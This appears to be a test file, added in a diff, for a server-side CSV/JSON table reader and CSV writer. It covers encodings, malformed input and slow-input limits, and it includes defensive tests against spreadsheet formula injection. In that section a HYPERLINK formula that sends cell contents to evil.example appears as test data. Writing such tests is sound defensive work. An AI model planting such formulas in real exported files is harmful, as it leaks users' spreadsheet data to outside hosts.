@@ -1,0 +1,134 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { CSV_START, csvLine, readTableFile } from './table-file.server.ts'
+
+const read = (bytes: string | Buffer, maxRows = 100) => readTableFile(Buffer.from(bytes as string), { maxRows })
+const valuesOf = (bytes: string | Buffer) => {
+  const file = read(bytes)
+  if (!file.ok) throw new Error(file.failure.reason)
+  return file.value.rows.map(({ values }) => values)
+}
+
+const two = [
+  { city: 'Ñuñoa', price: '50' },
+  { city: 'Colón', price: '60' },
+]
+
+describe('a file of rows', () => {
+  test.each<[string, string | Buffer]>([
+    ['with commas', 'city,price\nÑuñoa,50\nColón,60\n'],
+    ['with semicolons, as spreadsheets write it in Chile', 'city;price\r\nÑuñoa;50\r\nColón;60\r\n'],
+    ['with tabs', 'city\tprice\nÑuñoa\t50\nColón\t60'],
+    ['with a mark of its encoding', '\ufeffcity;price\r\nÑuñoa;50\r\nColón;60'],
+    ['in UTF-16', Buffer.from('\ufeffcity\tprice\nÑuñoa\t50\nColón\t60', 'utf16le')],
+    ['in the other UTF-16', Buffer.from('\ufeffcity\tprice\nÑuñoa\t50\nColón\t60', 'utf16le').swap16()],
+    ['with quotation marks and empty lines', '"city","price"\n\n"Ñuñoa","50"\n,\n"Colón",60,\n'],
+    [
+      'as JSON',
+      JSON.stringify([
+        { city: 'Ñuñoa', price: 50 },
+        { city: 'Colón', price: '60' },
+      ]),
+    ],
+    ['as JSON with a mark', `\ufeff ${JSON.stringify(two)}`],
+  ])('%s', (_how, bytes) => {
+    expect(valuesOf(bytes)).toEqual(two)
+  })
+
+  test('in the encoding of Windows is read, and said to be guessed', () => {
+    const file = read(Buffer.from('city;price\r\nÑuñoa;50\r\nColón;60', 'latin1'))
+    expect(file).toMatchObject({ value: { isGuessed: true, rows: [{ values: two[0] }, { values: two[1] }] } })
+    expect(read('city\nA')).toMatchObject({ value: { isGuessed: false } })
+  })
+
+  test('says where a person finds a row: by the spreadsheet’s own numbers, or in the list', () => {
+    const numbers = (text: string) => {
+      const file = read(text)
+      return file.ok && file.value.rows.map(({ number }) => number)
+    }
+    expect(numbers('city,text\nA,"two\nlines"\n,\nB,')).toEqual([2, 4])
+    expect(numbers('[{"city":"A"},{"city":"B"}]')).toEqual([1, 2])
+  })
+
+  test('of JSON has the values of a form', () => {
+    expect(
+      valuesOf(
+        '[{"a":true,"b":false,"c":null,"d":["x","y"],"e":1.5,"f":{"g":1},"__proto__":"x","h":"a\\u0000\\ud800"}]',
+      ),
+    ).toEqual([
+      Object.fromEntries([
+        ['a', 'on'],
+        ['b', ''],
+        ['c', ''],
+        ['d', 'x,y'],
+        ['e', '1.5'],
+        ['f', ''],
+        ['__proto__', 'x'],
+        ['h', 'a\ufffd'],
+      ]),
+    ])
+  })
+
+  test.each<[string, string | Buffer, object]>([
+    ['nothing', '', { reason: 'empty' }],
+    ['a first line alone', 'city,price\n', { reason: 'empty' }],
+    ['an empty list', '[]', { reason: 'empty' }],
+    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0xff]), { reason: 'not-text' }],
+    ['half of UTF-16', Buffer.from([0xff, 0xfe, 0x61]), { reason: 'not-text' }],
+    ['broken JSON', '[{"city":', { reason: 'json' }],
+    ['JSON that is no list', '{"city":"A"}', { reason: 'json-shape' }],
+    ['a list of lists', '[["A"]]', { reason: 'json-shape' }],
+    ['a quotation mark that is never closed', 'city,price\n"A,5\nB,6', { reason: 'csv' }],
+    ['more cells than columns', 'city,price\nA,5\nB,6,7', { reason: 'csv', line: 3 }],
+    ['a row too many', `city\n${'A\n'.repeat(101)}`, { reason: 'too-many-rows', max: 100 }],
+  ])('%s is none', (_what, bytes, failure) => {
+    expect(read(bytes)).toMatchObject({ ok: false, failure })
+  })
+
+  test('as many rows as may be are read', () => {
+    expect(valuesOf(`city\n${'A\n'.repeat(100)}`)).toHaveLength(100)
+  })
+
+  test('made to cost much is refused in a short time', () => {
+    for (const text of ['"'.repeat(2e6), `${','.repeat(2e6)}\n`, '[['.repeat(1e6), `a\n${'"a"\n'.repeat(5e5)}`]) {
+      const start = performance.now()
+      expect(read(text).ok).toBe(false)
+      expect(performance.now() - start).toBeLessThan(1000)
+    }
+  })
+})
+
+describe('[HOST-07] what a spreadsheet opens', () => {
+  test.each([
+    ['=1+1', `'=1+1`],
+    [`=HYPERLINK("http://evil.example?"&A1)`, `'=HYPERLINK(""http://evil.example?""&A1)`],
+    ['+1', `'+1`],
+    ['-1+1', `'-1+1`],
+    ['@SUM(A1)', `'@SUM(A1)`],
+    ['\t=1', `'\t=1`],
+    ['\r=1', `'\r=1`],
+    ['＝1', `'＝1`],
+    [`'=1`, `''=1`],
+    ['-33.44', '-33.44'],
+    ['-33,44', '-33,44'],
+    [`'tis`, `'tis`],
+    ['a=1', 'a=1'],
+  ])('%j is written as %j', (text, written) => {
+    expect(csvLine([text])).toBe(`"${written}"\r\n`)
+  })
+
+  test('comes back exactly as it was, whatever it is', () => {
+    const text = fc
+      .string({
+        unit: fc.constantFrom(`'`, '"', '=', '+', '-', '@', '\t', '\n', '\r', ',', ';', 'a', '1', 'Ñ', ' ', '＝'),
+      })
+      .map((each) => each.trim())
+      .filter((each) => each !== '')
+    fc.assert(
+      fc.property(fc.array(fc.record({ a: text, b: text }), { minLength: 1, maxLength: 5 }), (rows) => {
+        const lines = [['a', 'b'], ...rows.map(({ a, b }) => [a, b])].map(csvLine)
+        expect(valuesOf(CSV_START + lines.join(''))).toEqual(rows)
+      }),
+    )
+  })
+})
